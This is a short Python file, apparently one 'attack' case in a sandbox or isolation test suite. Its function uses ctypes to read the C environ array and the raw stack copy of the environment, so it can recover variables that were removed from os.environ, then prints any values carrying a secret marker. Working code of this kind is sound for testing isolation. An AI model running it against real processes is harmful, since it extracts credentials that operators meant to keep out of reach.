"""The environment that a process was born with.

Taking a variable out of `os.environ` takes it out of a dictionary. The text that the kernel handed over when the program was
started still lies at the top of the stack, and in a second copy where C looks for it. The attack reads both, and what Python
remembers of how it was called.
"""
# seen: variables, none of them secret
# layer: walls

# %% attack
import ctypes
import os
import sys


def mischief():
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    variables, place_of_it = [], 0
    while environ[place_of_it] is not None:
        variables.append(environ[place_of_it].decode(errors="replace"))
        place_of_it += 1
    born = ctypes.cast(environ, ctypes.POINTER(ctypes.c_void_p))[0]
    above = bytearray()
    while born and len(above) < 1 << 16 and not above.endswith(b"\0\0\0\0\0\0"):
        above += ctypes.string_at(born + len(above), 1)
    everything = " ".join([*variables, above.decode(errors="replace"), *os.environ.values(), *sys.orig_argv])
    secrets = {word for word in everything.replace("=", " ").replace("\0", " ").split() if word.startswith(place["mark"])}
    print("\n".join(sorted(secrets)) or f"{len(variables)} variables, none of them secret")
